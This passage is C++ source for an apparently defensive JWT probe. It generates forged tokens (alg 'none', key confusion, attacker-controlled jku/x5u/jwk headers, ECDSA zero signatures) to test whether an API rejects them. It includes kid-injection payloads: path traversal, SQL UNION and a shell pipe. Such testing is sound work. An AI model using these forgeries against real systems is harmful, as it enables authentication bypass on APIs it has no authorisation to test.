// SPDX-License-Identifier: MIT
#include "jose/TokenMutator.h"

#include "core/Base64Url.h"
#include "core/JsonText.h"
#include "crypto/Certificate.h"
#include "crypto/Hmac.h"
#include "crypto/SecureRandom.h"
#include "jose/AlgorithmTable.h"
#include "jose/CompactToken.h"
#include "jose/JwtBuilder.h"

#include <QDateTime>
#include <QHash>
#include <QJsonArray>
#include <QJsonDocument>

#include <QMutex>

#include <functional>
#include <map>

namespace {

// The catalogue of issue 13, in table order. Ids are stable (the CLI's --only/--skip, JSON and JUnit output and
// docs/PROBE.md use them); append rows, never rename.
QList<MutationInfo> buildCatalogue()
{
    const auto row = [](const char* id, const char* description, MutationSeverity severity, const char* reference,
                        const char* reason, bool needsSigningKey = false, bool needsPublicKey = false,
                        bool needsNetwork = false) {
        return MutationInfo{QString::fromUtf8(id),
                            QString::fromUtf8(description),
                            severity,
                            QString::fromUtf8(reference),
                            QString::fromUtf8(reason),
                            needsSigningKey,
                            needsPublicKey,
                            needsNetwork,
                            TokenPlacement::BearerHeader,
                            false};
    };
    QList<MutationInfo> rows = {
        // Signature
        row("sig-stripped", "signature removed (empty third part), alg kept", MutationSeverity::Must,
            "RFC 8725 §3.3; RFC 7515 §5.2",
            "a JWS whose signature is empty cannot validate; accepting it means signatures are not checked"),
        row("sig-truncated", "signature cut to its first half", MutationSeverity::Must, "RFC 8725 §3.3; RFC 7515 §5.2",
            "a truncated signature is invalid; accepting it means only a prefix (or nothing) is compared"),
        row("sig-bitflip", "one bit of the signature flipped", MutationSeverity::Must, "RFC 8725 §3.3; RFC 7515 §5.2",
            "any change to the signature must make validation fail"),
        row("sig-other-key", "signed by a fresh key of the same type (header kept)", MutationSeverity::Must,
            "RFC 8725 §3.3; RFC 7515 §5.2",
            "only the issuer's key may produce an accepted signature; accepting another key's means any key works"),
        row("payload-tampered", "a claim changed (sub), signature kept", MutationSeverity::Must,
            "RFC 8725 §3.3; RFC 7515 §5.2",
            "the signature covers the payload; accepting a changed payload means the signature is not verified"),
        // Algorithm
        row("alg-none", "alg set to \"none\", signature removed", MutationSeverity::Must,
            "RFC 8725 §3.1, §2.1; RFC 7518 §3.6",
            "an unsecured JWT must never be accepted where a signed one is expected"),
        row("alg-none-case", "alg set to \"None\", \"NONE\" or \"nOnE\", signature removed", MutationSeverity::Must,
            "RFC 8725 §3.1; RFC 7515 §4.1.1",
            "alg values are case-sensitive; a case-insensitive \"none\" check lets unsigned tokens through"),
        row("alg-missing", "alg header removed, signature removed", MutationSeverity::Must,
            "RFC 7515 §4.1.1; RFC 8725 §3.1",
            "alg is required in a JWS; a library that defaults a missing alg to none accepts unsigned tokens"),
        row("alg-unknown", "alg set to an algorithm that does not exist (\"XS256\"), signature kept",
            MutationSeverity::Must, "RFC 7515 §5.2; RFC 8725 §3.1",
            "a JWS whose alg the recipient does not support must be rejected, never verified some other way"),
        row("alg-hs-with-public-key",
            "HS256/384/512 keyed with the issuer's public key (PEM with and without newline, DER, JWK JSON)",
            MutationSeverity::Must, "CVE-2015-9235 / CVE-2016-10555; RFC 8725 §2.1, §3.1",
            "key confusion: anyone can compute an HMAC with the public key; a key must be used with one algorithm",
            false, true),
        row("ecdsa-psychic", "ECDSA signature r = s = 0 (ES* tokens only)", MutationSeverity::Must,
            "CVE-2022-21449; RFC 8725 §3.4",
            "r and s must be in [1, n-1] (SEC 1 §4.1.4); a zero signature \"verifies\" in broken ECDSA code"),
        row("alg-downgrade",
            "re-signed with the real key under another algorithm the key allows (e.g. RS256 for PS256)",
            MutationSeverity::Should, "RFC 8725 §3.1, §3.2",
            "an API should accept only the algorithm it issues with; every extra one widens the attack surface", true),
        // Key headers
        row("jwk-embedded", "signed with an attacker key placed in the jwk header", MutationSeverity::Must,
            "CVE-2018-0114; RFC 8725 §3.10; RFC 7515 §4.1.3",
            "a key carried in the token proves nothing; the verification key must come from the API's trust store"),
        row("jku-attacker", "jku points at a JWKS served by the probe, signed with its key", MutationSeverity::Must,
            "RFC 8725 §3.10; RFC 7515 §4.1.2",
            "following an attacker's jku lets anyone sign tokens (and is SSRF); jku must be on an allowlist or ignored",
            false, false, true),
        row("x5u-attacker", "x5u points at a certificate served by the probe, signed with its key",
            MutationSeverity::Must, "RFC 8725 §3.10; RFC 7515 §4.1.5",
            "following an attacker's x5u lets anyone sign tokens (and is SSRF); x5u must be on an allowlist or ignored",
            false, false, true),
        row("x5c-self-signed", "a self-signed attacker certificate in x5c, signed with its key", MutationSeverity::Must,
            "RFC 7515 §4.1.6; RFC 8725 §3.10",
            "an x5c chain must be validated up to a trusted root; a self-signed certificate proves nothing"),
        row("kid-unknown", "kid set to a value that names no key, re-signed with the real key", MutationSeverity::Must,
            "RFC 7515 §4.1.4; RFC 8725 §3.10",
            "a kid that selects no key must fail, not fall back to another key or a default", true),
        row("kid-injection", "kid path traversal (../../dev/null, empty HMAC key), SQL and command payloads",
            MutationSeverity::Must, "RFC 8725 §3.10",
            "kid is attacker-controlled; used in a path, query or command it selects a key the attacker knows"),
        row("crit-unknown", "crit lists an unknown header parameter, re-signed with the real key",
            MutationSeverity::Must, "RFC 7515 §4.1.11",
            "a recipient must reject a JWS whose crit names an extension it does not understand", true),
        row("b64-false", "b64: false in crit (unencoded payload, RFC 7797), re-signed with the real key",
            MutationSeverity::Must, "RFC 7797 §3, §6; RFC 7515 §4.1.11",
            "a JWT payload is always base64url encoded; a recipient that ignores crit/b64 verifies the wrong bytes",
            true),
        // Claims (re-signed with the real key)
        row("exp-past", "exp set one hour in the past", MutationSeverity::Must, "RFC 7519 §4.1.4; RFC 9068 §4",
            "an expired token must be rejected", true),
        row("exp-missing", "exp removed", MutationSeverity::Must, "RFC 9068 §2.2",
            "exp is required in a JWT access token; a token without it never expires", true),
        row("nbf-future", "nbf set one hour in the future", MutationSeverity::Must, "RFC 7519 §4.1.5",
            "a token must not be accepted before its nbf", true),
        row("aud-wrong", "aud set to another API", MutationSeverity::Must,
            "RFC 9068 §4; RFC 8725 §3.9; RFC 7519 §4.1.3",
            "a token issued for another resource must be rejected (substitution, RFC 8725 §2.7)", true),
        row("aud-missing", "aud removed", MutationSeverity::Must, "RFC 9068 §2.2, §4",
            "aud is required in a JWT access token and must name this API", true),
        row("iss-wrong", "iss set to another issuer", MutationSeverity::Must, "RFC 9068 §4; RFC 8725 §3.8",
            "a token from an issuer the API does not trust must be rejected", true),
        row("iss-missing", "iss removed", MutationSeverity::Must, "RFC 9068 §2.2, §4",
            "iss is required in a JWT access token and must match the trusted issuer", true),
        row("iat-future", "iat set one hour in the future", MutationSeverity::Should, "RFC 9068 §2.2; RFC 7519 §4.1.6",
            "a token issued in the future (beyond clock leeway) is forged or from a misconfigured issuer", true),
        row("typ-wrong", "typ set to \"dpop+jwt\"", MutationSeverity::Should,
            "RFC 9449 §4.2; RFC 8725 §3.11; RFC 9068 §4",
            "a DPoP proof is never an access token; explicit typing keeps one kind of JWT from passing as another",
            true),
        row("scope-removed", "scope (and scp) removed", MutationSeverity::Info, "RFC 9068 §2.2.3",
            "whether a token without scope is accepted depends on the route; recorded", true),
        // Transport
        row("bearer-lowercase-scheme", "Authorization scheme written \"bearer\"", MutationSeverity::Accept,
            "RFC 9110 §11.1", "authentication scheme names are case-insensitive; a correct API accepts it"),
        row("token-in-query", "token sent as the access_token query parameter", MutationSeverity::Info, "RFC 6750 §2.3",
            "an API may refuse the query method (RFC 6750 §5.3 discourages it); recorded"),
        row("token-in-body", "token sent as access_token in a form body", MutationSeverity::Info, "RFC 6750 §2.2",
            "an API may refuse the form-body method; recorded"),
        row("two-authorization-headers", "two Authorization header fields", MutationSeverity::Should,
            "RFC 9110 §5.3; RFC 6750 §2",
            "an ambiguous request should get a clear 4xx, never a 5xx, a hang or a crash"),
        row("oversized-token", "a 16 KB token (padded header)", MutationSeverity::Should,
            "RFC 9110 §15.5.14; RFC 6585 §5",
            "an oversized credential should get a clear 4xx (400/401/413/431), never a 5xx, a hang or a crash"),
    };
    for (MutationInfo& info : rows) {
        info.hasVariants = info.id == QLatin1String("alg-none-case") ||
                           info.id == QLatin1String("alg-hs-with-public-key") ||
                           info.id == QLatin1String("kid-injection");
    }
    const std::pair<const char*, TokenPlacement> placements[] = {
        {"bearer-lowercase-scheme", TokenPlacement::LowercaseBearerScheme},
        {"token-in-query", TokenPlacement::QueryParameter},
        {"token-in-body", TokenPlacement::FormBody},
        {"two-authorization-headers", TokenPlacement::TwoAuthorizationHeaders},
    };
    for (const auto& [id, placement] : placements) {
        for (MutationInfo& info : rows) {
            if (info.id == QLatin1String(id)) {
                info.placement = placement;
            }
        }
    }
    return rows;
}

} // namespace

const QList<MutationInfo>& TokenMutator::catalogue()
{
    static const QList<MutationInfo> rows = buildCatalogue();
    return rows;
}

const MutationInfo* TokenMutator::find(const QString& id)
{
    for (const auto& info : catalogue()) {
        if (info.id == id) {
            return &info;
        }
    }
    return nullptr;
}

// Not in the anonymous namespace: TokenMutator::Private holds these (a class with linkage must not have a field
// of an anonymous-namespace type; GCC's -Wsubobject-linkage says so in unity builds).
namespace tokenmutator_detail {

/// One of the probe's own keys: what jwk-embedded, jku-attacker, x5u-attacker, x5c-self-signed and sig-other-key
/// sign with.
struct ProbeAttackerKey
{
    QString name; // "rsa", "p256", "p384", "p521", "secp256k1", "ed25519", "ed448"
    Jwk key;      // private, kid "tokenscope-probe-<name>", use "sig", no alg (it signs RS256 and PS512 alike)
    Certificate certificate;
};

/// The probe's keys, each generated on first use (an RSA-2048 key costs 0.1–0.6 s on a loaded machine; a run against
/// an ES256 API never needs it) and then kept for the TokenMutator's life, so every token of one run is signed by
/// the keys attackerJwksJson() serves. Thread-safe.
class ProbeAttackerKeys
{
public:
    explicit ProbeAttackerKeys(const Clock& clock)
        : m_clock(clock)
    {
    }
    static QStringList names()
    {
        return {QStringLiteral("rsa"),       QStringLiteral("p256"),    QStringLiteral("p384"), QStringLiteral("p521"),
                QStringLiteral("secp256k1"), QStringLiteral("ed25519"), QStringLiteral("ed448")};
    }
    /// nullptr only when OpenSSL could not generate the key (the rows that need it are skipped with a reason).
    const ProbeAttackerKey* get(const QString& name) const
    {
        const QMutexLocker lock(&m_mutex);
        if (auto it = m_keys.find(name); it != m_keys.end()) {
            return &it->second;
        }
        auto generated = generate(name);
        if (!generated) {
            return nullptr;
        }
        return &m_keys.emplace(name, *generated).first->second;
    }

private:
    std::optional<ProbeAttackerKey> generate(const QString& name) const
    {
        static const QHash<QString, Curve> curves = {
            {QStringLiteral("p256"), Curve::P256},       {QStringLiteral("p384"), Curve::P384},
            {QStringLiteral("p521"), Curve::P521},       {QStringLiteral("secp256k1"), Curve::Secp256k1},
            {QStringLiteral("ed25519"), Curve::Ed25519}, {QStringLiteral("ed448"), Curve::Ed448},
        };
        // RSA-2048: an API may (rightly) refuse smaller keys, which would hide a jku/x5u/jwk weakness.
        auto key = name == QLatin1String("rsa") ? AsymmetricKey::generateRsa(2048)
                                                : AsymmetricKey::generateCurve(curves.value(name, Curve::P256));
        if (!key) {
            return std::nullopt;
        }
        const QDateTime now = QDateTime::fromSecsSinceEpoch(m_clock.nowSeconds(), Qt::UTC);
        auto certificate =
            Certificate::createSelfSigned(key.value(), QStringLiteral("Tokenscope probe attacker (%1)").arg(name),
                                          now.addSecs(-3600), now.addDays(1));
        if (!certificate) {
            return std::nullopt;
        }
        return ProbeAttackerKey{name,
                                Jwk::fromKey(key.value())
                                    .withKid(QStringLiteral("tokenscope-probe-") + name)
                                    .withUse(QStringLiteral("sig")),
                                certificate.value()};
    }

    const Clock& m_clock;
    mutable QMutex m_mutex;
    mutable std::map<QString, ProbeAttackerKey> m_keys; // node-based: pointers stay valid
};

} // namespace tokenmutator_detail

namespace {

using tokenmutator_detail::ProbeAttackerKey;
using tokenmutator_detail::ProbeAttackerKeys;

QString attackerNameFor(const AlgorithmInfo& alg, qsizetype signatureSize)
{
    switch (alg.family) {
    case AlgorithmInfo::Family::Ecdsa:
        switch (alg.curve.value_or(Curve::P256)) {
        case Curve::P384:
            return QStringLiteral("p384");
        case Curve::P521:
            return QStringLiteral("p521");
        case Curve::Secp256k1:
            return QStringLiteral("secp256k1");
        default:
            return QStringLiteral("p256");
        }
    case AlgorithmInfo::Family::EdDsa:
        // "EdDSA" does not name the curve (RFC 8037 §3.1); an Ed448 signature is 114 bytes, Ed25519's 64.
        return signatureSize == 114 ? QStringLiteral("ed448") : QStringLiteral("ed25519");
    default:
        return QStringLiteral("rsa"); // RSA, RSA-PSS, and HMAC tokens (whose API would need an asymmetric key)
    }
}

/// Applies catalogue rows to one parsed token.
class MutationContext
{
public:
    MutationContext(const TokenMutatorInput& input, const CompactToken& token, const AlgorithmInfo& alg,
                    const ProbeAttackerKeys& attackers, qint64 now)
        : m_input(input)
        , m_token(token)
        , m_alg(alg)
        , m_attackers(attackers)
        , m_now(now)
        , m_compact(token.segments[0].text + '.' + token.segments[1].text + '.' + token.segments[2].text)
    {
        if (auto claims = token.payloadObject(); claims) {
            m_claims = claims.value();
        }
    }

    QList<TokenMutation> rows(const MutationInfo& info) const;

private:
    static TokenMutation made(const MutationInfo& info, const QString& variant, const QString& changed,
                              const QByteArray& token, TokenPlacement placement = TokenPlacement::BearerHeader)
    {
        TokenMutation m;
        m.id = info.id;
        m.variant = variant;
        m.changed = changed;
        m.token = token;
        m.placement = placement;
        return m;
    }
    static TokenMutation skipped(const MutationInfo& info, const QString& reason)
    {
        TokenMutation m;
        m.id = info.id;
        m.skippedReason = reason;
        return m;
    }
    static QByteArray headerSegment(const QJsonObject& header) { return Base64Url::encode(JsonText::compact(header)); }
    QByteArray withHeader(const QJsonObject& header, QByteArrayView signature) const
    {
        return headerSegment(header) + '.' + m_token.segments[1].text + '.' + Base64Url::encode(signature);
    }
    QByteArray withSignature(QByteArrayView signature) const
    {
        return m_token.segments[0].text + '.' + m_token.segments[1].text + '.' + Base64Url::encode(signature);
    }
    /// An HMAC over header'.payload with any key bytes (empty, a PEM text...): what JwtBuilder rightly refuses.
    QByteArray hmacSigned(const QJsonObject& header, const AlgorithmInfo& hmacAlg, QByteArrayView key) const
    {
        const QByteArray input = headerSegment(header) + '.' + m_token.segments[1].text;
        return input + '.' + Base64Url::encode(Hmac::compute(hmacAlg.hash, key, input));
    }
    /// A header without the key-locating parameters (a forged token carries only its own).
    QJsonObject headerWithoutKeyParameters() const
    {
        QJsonObject h = m_token.header;
        for (const char* name : {"kid", "jku", "jwk", "x5u", "x5c", "x5t", "x5t#S256"}) {
            h.remove(QLatin1String(name));
        }
        return h;
    }
    /// Legitimate signing (the real key, or the probe's own key) goes through JwtBuilder.
    static Result<QByteArray> signedWith(const QJsonObject& header, const QByteArray& payload, const Jwk& key)
    {
        return JwtBuilder::signCompact(JsonText::compact(header), payload, key);
    }
    TokenMutation resigned(const MutationInfo& info, const QByteArray& headerJson, const QByteArray& payload,
                           const QString& changed) const
    {
        if (!m_input.signingKey) {
            return skipped(info, QStringLiteral("needs signing key"));
        }
        auto token = JwtBuilder::signCompact(headerJson, payload, *m_input.signingKey);
        if (!token) {
            return skipped(info,
                           QStringLiteral("the signing key cannot sign %1: %2").arg(m_alg.name, token.error().message));
        }
        return made(info, {}, changed, token.value());
    }
    TokenMutation claimChanged(const MutationInfo& info, const std::function<bool(QJsonObject&)>& change,
                               const QString& changed, const QString& notApplicable = {}) const
    {
        if (!m_input.signingKey) {
            return skipped(info, QStringLiteral("needs signing key"));
        }
        if (!m_claims) {
            return skipped(info, QStringLiteral("the payload is not a JSON object"));
        }
        QJsonObject claims = *m_claims;
        if (!change(claims)) {
            return skipped(info, notApplicable);
        }
        return resigned(info, m_token.headerText, JsonText::compact(claims), changed);
    }
    const ProbeAttackerKey* attacker() const
    {
        return m_attackers.get(attackerNameFor(m_alg, m_token.signature.size()));
    }
    /// The algorithm a forged token signed by the probe's key carries: the token's own, RS256 for HMAC tokens.
    QString attackerAlg() const { return m_alg.isSymmetric() ? QStringLiteral("RS256") : m_alg.name; }
    QString algNote() const
    {
        return m_alg.isSymmetric() ? QStringLiteral(", alg RS256 (was %1)").arg(m_alg.name) : QString();
    }
    TokenMutation attackerSigned(const MutationInfo& info, QJsonObject header, const QString& changed) const
    {
        const ProbeAttackerKey* key = attacker();
        if (key == nullptr) {
            return skipped(info, QStringLiteral("the probe could not generate its own key"));
        }
        header.insert(QStringLiteral("alg"), attackerAlg());
        auto token = signedWith(header, m_token.payload, key->key);
        if (!token) {
            return skipped(info, QStringLiteral("signing with the probe's key failed: %1").arg(token.error().message));
        }
        return made(info, {}, changed + algNote(), token.value());
    }

    QList<TokenMutation> signatureRows(const MutationInfo& info) const;
    QList<TokenMutation> algorithmRows(const MutationInfo& info) const;
    QList<TokenMutation> keyHeaderRows(const MutationInfo& info) const;
    QList<TokenMutation> claimRows(const MutationInfo& info) const;
    QList<TokenMutation> transportRows(const MutationInfo& info) const;
    TokenMutation otherKeyRow(const MutationInfo& info) const;
    TokenMutation downgradeRow(const MutationInfo& info) const;
    QList<TokenMutation> publicKeyHmacRows(const MutationInfo& info) const;
    TokenMutation oversizedRow(const MutationInfo& info) const;

    const TokenMutatorInput& m_input;
    const CompactToken& m_token;
    const AlgorithmInfo& m_alg;
    const ProbeAttackerKeys& m_attackers;
    const qint64 m_now;
    const QByteArray m_compact;
    std::optional<QJsonObject> m_claims;
};

QList<TokenMutation> MutationContext::rows(const MutationInfo& info) const
{
    using Group = QList<TokenMutation> (MutationContext::*)(const MutationInfo&) const;
    for (const Group group :
         {&MutationContext::signatureRows, &MutationContext::algorithmRows, &MutationContext::keyHeaderRows,
          &MutationContext::claimRows, &MutationContext::transportRows}) {
        QList<TokenMutation> out = (this->*group)(info);
        if (!out.isEmpty()) {
            return out;
        }
    }
    Q_ASSERT_X(false, "MutationContext::rows", "a catalogue id without an implementation");
    return {skipped(info, QStringLiteral("not implemented"))};
}

QList<TokenMutation> MutationContext::signatureRows(const MutationInfo& info) const
{
    const QByteArray& sig = m_token.signature;
    if (info.id == QLatin1String("sig-stripped")) {
        return {made(info, {}, QStringLiteral("signature removed (empty third part)"), withSignature({}))};
    }
    if (info.id == QLatin1String("sig-truncated")) {
        const qsizetype half = sig.size() / 2;
        return {made(info, {}, QStringLiteral("signature cut to %1 of %2 bytes").arg(half).arg(sig.size()),
                     withSignature(sig.left(half)))};
    }
    if (info.id == QLatin1String("sig-bitflip")) {
        if (sig.isEmpty()) {
            return {skipped(info, QStringLiteral("the token has no signature"))};
        }
        QByteArray flipped = sig;
        const qsizetype at = flipped.size() / 2;
        flipped[at] = static_cast<char>(flipped[at] ^ 0x01);
        return {made(info, {}, QStringLiteral("bit 0 of signature byte %1 flipped").arg(at), withSignature(flipped))};
    }
    if (info.id == QLatin1String("sig-other-key")) {
        return {otherKeyRow(info)};
    }
    if (info.id == QLatin1String("payload-tampered")) {
        if (!m_claims) {
            return {made(info, {}, QStringLiteral("one byte appended to the payload, signature kept"),
                         m_token.segments[0].text + '.' + Base64Url::encode(QByteArray(m_token.payload + '!')) + '.' +
                             m_token.segments[2].text)};
        }
        QJsonObject claims = *m_claims;
        const QString sub = claims.value(QLatin1String("sub")).toString();
        const QString forged = sub == QLatin1String("tokenscope-probe") ? QStringLiteral("tokenscope-probe-2")
                                                                        : QStringLiteral("tokenscope-probe");
        claims.insert(QStringLiteral("sub"), forged);
        return {made(info, {}, QStringLiteral("sub set to \"%1\", signature kept").arg(forged),
                     m_token.segments[0].text + '.' + Base64Url::encode(JsonText::compact(claims)) + '.' +
                         m_token.segments[2].text)};
    }
    return {};
}

TokenMutation MutationContext::otherKeyRow(const MutationInfo& info) const
{
    if (m_alg.isSymmetric()) {
        // A fresh secret as long as the hash (RFC 7518 §3.2), same alg, same header.
        auto secret = SecureRandom::bytes(m_alg.signatureSize);
        if (!secret) {
            return skipped(info, secret.error().message);
        }
        const QByteArray input = m_token.segments[0].text + '.' + m_token.segments[1].text;
        return made(info, {}, QStringLiteral("HMAC with a fresh %1-byte secret").arg(m_alg.signatureSize),
                    input + '.' + Base64Url::encode(Hmac::compute(m_alg.hash, secret.value(), input)));
    }
    const ProbeAttackerKey* key = attacker();
    if (key == nullptr) {
        return skipped(info, QStringLiteral("the probe could not generate its own key"));
    }
    // The exact header bytes are kept (its kid still names the real key), only the signer changes.
    auto token = JwtBuilder::signCompact(m_token.headerText, m_token.payload, key->key);
    if (!token) {
        return skipped(info, QStringLiteral("signing with the probe's key failed: %1").arg(token.error().message));
    }
    return made(info, {}, QStringLiteral("signed by the probe's own %1 key").arg(key->name), token.value());
}

QList<TokenMutation> MutationContext::algorithmRows(const MutationInfo& info) const
{
    if (info.id == QLatin1String("alg-none") || info.id == QLatin1String("alg-none-case")) {
        const bool cased = info.id == QLatin1String("alg-none-case");
        const QStringList names =
            cased ? QStringList{QStringLiteral("None"), QStringLiteral("NONE"), QStringLiteral("nOnE")}
                  : QStringList{QStringLiteral("none")};
        QList<TokenMutation> out;
        for (const QString& name : names) {
            QJsonObject h = m_token.header;
            h.insert(QStringLiteral("alg"), name);
            out.append(made(info, cased ? name : QString(),
                            QStringLiteral("alg set to \"%1\", signature removed").arg(name), withHeader(h, {})));
        }
        return out;
    }
    if (info.id == QLatin1String("alg-missing")) {
        QJsonObject h = m_token.header;
        h.remove(QLatin1String("alg"));
        return {made(info, {}, QStringLiteral("alg removed, signature removed"), withHeader(h, {}))};
    }
    if (info.id == QLatin1String("alg-unknown")) {
        QJsonObject h = m_token.header;
        h.insert(QStringLiteral("alg"), QStringLiteral("XS256"));
        return {
            made(info, {}, QStringLiteral("alg set to \"XS256\", signature kept"), withHeader(h, m_token.signature))};
    }
    if (info.id == QLatin1String("alg-hs-with-public-key")) {
        return publicKeyHmacRows(info);
    }
    if (info.id == QLatin1String("ecdsa-psychic")) {
        if (m_alg.family != AlgorithmInfo::Family::Ecdsa) {
            return {skipped(info, QStringLiteral("token is not ES256/ES384/ES512/ES256K"))};
        }
        // CVE-2022-21449: r = s = 0 in the fixed-size R || S form (RFC 7518 §3.4), 2 × the curve's coordinate size.
        return {made(info, {}, QStringLiteral("signature set to r = s = 0 (%1 zero bytes)").arg(m_alg.signatureSize),
                     withSignature(QByteArray(m_alg.signatureSize, '\0')))};
    }
    if (info.id == QLatin1String("alg-downgrade")) {
        return {downgradeRow(info)};
    }
    return {};
}

QList<TokenMutation> MutationContext::publicKeyHmacRows(const MutationInfo& info) const
{
    if (!m_input.publicKey) {
        return {skipped(info, QStringLiteral("needs the issuer's public key"))};
    }
    const Jwk& pub = *m_input.publicKey;
    if (pub.isSymmetric()) {
        return {skipped(info, QStringLiteral("the issuer's key is symmetric (no public key to confuse)"))};
    }
    auto pem = pub.asymmetricKey().publicKey().toPem(PemFormat::Spki);
    if (!pem) {
        return {skipped(info, pem.error().message)};
    }
    QByteArray pemNoNewline = pem.value();
    while (pemNoNewline.endsWith('\n')) {
        pemNoNewline.chop(1);
    }
    QByteArray pemWithNewline = pemNoNewline + '\n';
    // The forms in which an API might hold the "secret" it hands to a key-type-agnostic verify(token, key) call.
    const QList<std::pair<QString, QByteArray>> forms = {
        {QStringLiteral("pem"), pemWithNewline},
        {QStringLiteral("pem-no-newline"), pemNoNewline},
        {QStringLiteral("der"), pub.asymmetricKey().spkiDer()},
        {QStringLiteral("jwk-json"), JsonText::compact(pub.publicJwk().toJson())},
    };
    QList<TokenMutation> out;
    for (const char* name : {"HS256", "HS384", "HS512"}) {
        const AlgorithmInfo* hmac = AlgorithmTable::find(QString::fromLatin1(name));
        Q_ASSERT(hmac != nullptr);
        QJsonObject h = m_token.header;
        h.insert(QStringLiteral("alg"), hmac->name);
        for (const auto& [form, bytes] : forms) {
            out.append(made(info, hmac->name + QLatin1Char('/') + form,
                            QStringLiteral("alg %1 keyed with the public key as %2").arg(hmac->name, form),
                            hmacSigned(h, *hmac, bytes)));
        }
    }
    return out;
}

TokenMutation MutationContext::downgradeRow(const MutationInfo& info) const
{
    if (!m_input.signingKey) {
        return skipped(info, QStringLiteral("needs signing key"));
    }
    // The key's own "alg" would pin it to one algorithm; the point is to sign with another one it could do.
    const Jwk key = m_input.signingKey->withAlg({});
    QStringList candidates = AlgorithmTable::namesForKey(key.ktyName(), key.curve());
    if (candidates.removeAll(QStringLiteral("RS256")) > 0) {
        candidates.prepend(QStringLiteral("RS256")); // the example: RS256 where the API issues PS256
    }
    candidates.removeAll(m_alg.name);
    for (const QString& name : candidates) {
        QJsonObject h = m_token.header;
        h.insert(QStringLiteral("alg"), name);
        if (auto token = signedWith(h, m_token.payload, key); token) {
            return made(info, name,
                        QStringLiteral("alg %1 (was %2), re-signed with the real key").arg(name, m_alg.name),
                        token.value());
        }
    }
    return skipped(info, QStringLiteral("the signing key allows no algorithm other than %1").arg(m_alg.name));
}

QList<TokenMutation> MutationContext::keyHeaderRows(const MutationInfo& info) const
{
    if (info.id == QLatin1String("jwk-embedded")) {
        const ProbeAttackerKey* key = attacker();
        QJsonObject h = headerWithoutKeyParameters();
        if (key != nullptr) {
            h.insert(QStringLiteral("jwk"), key->key.publicJwk().toJson());
            h.insert(QStringLiteral("kid"), key->key.kid());
        }
        return {attackerSigned(info, h, QStringLiteral("signed by the probe's key, its public JWK in \"jwk\""))};
    }
    if (info.id == QLatin1String("jku-attacker") || info.id == QLatin1String("x5u-attacker")) {
        const bool jku = info.id == QLatin1String("jku-attacker");
        const QString url = jku ? m_input.attackerJwksUrl : m_input.attackerX5uUrl;
        if (url.isEmpty()) {
            return {skipped(info, jku ? QStringLiteral("needs the probe's JWKS URL")
                                      : QStringLiteral("needs the probe's certificate URL"))};
        }
        const ProbeAttackerKey* key = attacker();
        QJsonObject h = headerWithoutKeyParameters();
        h.insert(jku ? QStringLiteral("jku") : QStringLiteral("x5u"), url);
        if (key != nullptr) {
            h.insert(QStringLiteral("kid"), key->key.kid());
        }
        return {attackerSigned(info, h,
                               QStringLiteral("%1 set to %2, signed by the probe's key")
                                   .arg(jku ? QStringLiteral("jku") : QStringLiteral("x5u"), url))};
    }
    if (info.id == QLatin1String("x5c-self-signed")) {
        const ProbeAttackerKey* key = attacker();
        QJsonObject h = headerWithoutKeyParameters();
        if (key != nullptr) {
            // RFC 7515 §4.1.6: standard base64 (not base64url) DER, leaf first.
            h.insert(QStringLiteral("x5c"),
                     QJsonArray{QString::fromLatin1(Base64Url::encodeStandard(key->certificate.der()))});
        }
        return {attackerSigned(info, h, QStringLiteral("a self-signed certificate in \"x5c\", signed by its key"))};
    }
    if (info.id == QLatin1String("kid-unknown")) {
        QJsonObject h = m_token.header;
        h.insert(QStringLiteral("kid"), QStringLiteral("tokenscope-probe-unknown-kid"));
        return {resigned(info, JsonText::compact(h), m_token.payload,
                         QStringLiteral("kid set to \"tokenscope-probe-unknown-kid\", re-signed with the real key"))};
    }
    if (info.id == QLatin1String("kid-injection")) {
        // Each kid selects a key the attacker knows if the API puts it in a path, an SQL query or a shell command.
        struct Injection
        {
            const char* variant;
            const char* kid;
            QByteArray key;
        };
        const Injection injections[] = {
            {"path-traversal", "../../dev/null", QByteArray()}, // reading /dev/null gives the empty key
            {"sql", "x' UNION SELECT 'tokenscope-probe' -- ", QByteArrayLiteral("tokenscope-probe")},
            {"command", "/dev/null | echo tokenscope-probe", QByteArrayLiteral("tokenscope-probe\n")},
        };
        const AlgorithmInfo* hs256 = AlgorithmTable::find(u"HS256");
        Q_ASSERT(hs256 != nullptr);
        QList<TokenMutation> out;
        for (const auto& injection : injections) {
            QJsonObject h = headerWithoutKeyParameters();
            h.insert(QStringLiteral("alg"), hs256->name);
            h.insert(QStringLiteral("kid"), QString::fromUtf8(injection.kid));
            out.append(made(
                info, QString::fromLatin1(injection.variant),
                QStringLiteral("kid \"%1\", HS256 with the key it would select").arg(QString::fromUtf8(injection.kid)),
                hmacSigned(h, *hs256, injection.key)));
        }
        return out;
    }
    if (info.id == QLatin1String("crit-unknown")) {
        QJsonObject h = m_token.header;
        h.insert(QStringLiteral("x-tokenscope-probe"), true);
        h.insert(QStringLiteral("crit"), QJsonArray{QStringLiteral("x-tokenscope-probe")});
        return {resigned(info, JsonText::compact(h), m_token.payload,
                         QStringLiteral("crit [\"x-tokenscope-probe\"], re-signed with the real key"))};
    }
    if (info.id == QLatin1String("b64-false")) {
        // RFC 7797: with b64 false the signing input is header'.payload-bytes. Using the original payload segment
        // as those bytes keeps the compact form identical in shape, so an API that ignores crit/b64 decodes it as
        // usual and finds a valid signature; a correct one rejects the crit or the non-JSON payload.
        QJsonObject h = m_token.header;
        h.insert(QStringLiteral("b64"), false);
        h.insert(QStringLiteral("crit"), QJsonArray{QStringLiteral("b64")});
        return {resigned(info, JsonText::compact(h), m_token.segments[1].text,
                         QStringLiteral("b64: false in crit, re-signed with the real key"))};
    }
    return {};
}

QList<TokenMutation> MutationContext::claimRows(const MutationInfo& info) const
{
    const auto setClaim = [](const char* name, const QJsonValue& value) {
        return [name, value](QJsonObject& claims) {
            claims.insert(QLatin1String(name), value);
            return true;
        };
    };
    const auto removePresent = [](QStringList names) {
        return [names](QJsonObject& claims) {
            bool any = false;
            for (const QString& name : names) {
                any = claims.contains(name) || any;
                claims.remove(name);
            }
            return any;
        };
    };
    const qint64 hour = 3600;
    if (info.id == QLatin1String("exp-past")) {
        return {claimChanged(info, setClaim("exp", double(m_now - hour)), QStringLiteral("exp set to now - 1 h"))};
    }
    if (info.id == QLatin1String("exp-missing")) {
        return {claimChanged(info, removePresent({QStringLiteral("exp")}), QStringLiteral("exp removed"),
                             QStringLiteral("the token has no exp"))};
    }
    if (info.id == QLatin1String("nbf-future")) {
        return {claimChanged(info, setClaim("nbf", double(m_now + hour)), QStringLiteral("nbf set to now + 1 h"))};
    }
    if (info.id == QLatin1String("aud-wrong")) {
